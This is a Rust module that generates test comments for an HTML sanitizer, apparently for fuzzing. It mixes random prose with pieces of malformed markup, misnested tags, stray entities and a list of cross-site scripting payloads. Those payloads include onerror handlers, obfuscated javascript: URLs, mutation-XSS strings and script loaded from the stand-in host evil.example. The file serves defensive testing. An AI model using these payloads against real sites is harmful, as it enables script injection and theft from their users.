//! Class F: comments of attackers, word processors and beginners.
//!
//! Every piece is written for this file; the techniques are public knowledge
//! (OWASP filter-evasion list, the mutation bugs of sanitizers). `¤` becomes a
//! number and `~` a phrase, so that no two comments are equal.

use super::prose::{self, Prose};

const PIECES: &[&str] = &[
    // disallowed tags and their content
    "<script>alert(¤)</script>",
    "<script src=//evil.example/¤.js></script>",
    "<img src=x¤ onerror=alert(1)>",
    "<img src=\"https://example.com/¤.png\" alt=\"~\" width=10 />",
    "<iframe src=\"https://example.com/embed/¤\" allowfullscreen></iframe>",
    "<style>p { color: red; width: ¤px }</style>",
    "<object data=\"¤.swf\"><embed src=¤></object>",
    "<div class=\"row col-¤\" style=\"margin:0\">~</div>",
    "<span style=\"font-size:¤pt;mso-fareast-language:EN\">~</span>",
    "<font color=#cc0000 size=+1>~</font>",
    "<center><h1>~</h1></center>",
    "<table><tr><td>~</td><td>¤</td></tr></table>",
    "<form action=/¤><input name=q value='~'><button>go</button></form>",
    "<textarea>~</textarea>",
    "<!-- ~ ¤ -->",
    "<![CDATA[ ~ ]]>",
    "<?php echo ¤; ?>",
    "<!DOCTYPE html>",
    "<o:p>&nbsp;</o:p>",
    // misnesting and missing ends
    "<em>~ <strong>~</em> ~</strong>",
    "<strong>~",
    "<em><em><em>~</em>",
    "~</em></strong></li></ul>",
    "<a href=\"https://example.com/¤\">~ <a href=/x>~</a>",
    "<ul>~<li>~<ol><li>~</ul>",
    "<li>~<li>~",
    "<p>~<p>~</p></p>",
    "<code>~\n\n~",
    "<dl><dd>~<ul><dt>~</dl>",
    "<blockquote><p>~</blockquote>",
    // attributes
    "<a href=\"javascript:alert(¤)\">~</a>",
    "<a href=\"jAvA\tscript:alert(¤)\">~</a>",
    "<a href=\"&#106;avascript&colon;alert(¤)\">~</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4¤\">~</a>",
    "<a href='https://example.com/¤' onclick='steal()' target=_blank>~</a>",
    "<a href=https://example.com/¤ title=~>~</a>",
    "<a href=\"https://example.com/¤>~</a>",
    "<em class=\"x\" class='y' id=¤ lang>~</em>",
    "<strong onmouseover=\"alert('¤')\">~</strong>",
    "<em style=\"background:url(javascript:¤)\">~</em>",
    "<a/href=\"//evil.example/¤\"/>~</a>",
    "<A HREF = \"HTTP://EXAMPLE.COM/¤\" >~</A >",
    // stray characters and entities
    "if a<b and c>d then ¤",
    "List<String> x¤ = new List<>();",
    "~ <3 ~ <- ~ -> ~",
    "R&D & AT&T &amp; &lt;¤&gt; &copy &#x3c;script&#62; &bogus; &#0; &#xD800;",
    "5 < ¤ && ¤ > 4",
    "<<<<<< ¤",
    "<",
    "</",
    "<~@example.com>",
    "\"><svg/onload=alert(¤)>",
    "[b]~[/b] [url=http://example.com/¤]~[/url]",
    "[quote=<b>~</b>]~",
    // mutation: parsers that disagree about foreign content
    "<svg><style><img src=x onerror=alert(¤)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=¤ onerror=x&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(¤)>\">",
    "<select><template><s>¤ ~</select>",
    "<title>&lt;/title&gt;<b>~</title>",
    "<xmp>~<plaintext>¤",
    "<em\u{0}>~</em>\u{202e}~\u{200b}\u{feff}",
];

/// Two to six pieces in text; now and then one of them is cut off.
pub(super) fn messy(prose: &mut Prose, out: &mut String) {
    for _ in 0..prose.random.between(2, 6) {
        if prose.random.chance(2, 3) {
            let size = prose.random.between(10, 70);
            prose.sentences(out, size);
            out.push_str(prose.random.pick(&[" ", " ", "\n", "\n\n"]));
        }
        let start = out.len();
        for symbol in prose.random.pick(PIECES).chars() {
            match symbol {
                '¤' => out.push_str(&prose.random.below(100_000).to_string()),
                '~' => out.push_str(&prose.phrase()),
                other => out.push(other),
            }
        }
        if prose.random.chance(1, 10) {
            let size = prose.random.between(start, out.len());
            prose::cut(out, size);
        }
        out.push_str(prose.random.pick(&[" ", "", "\n"]));
    }
}
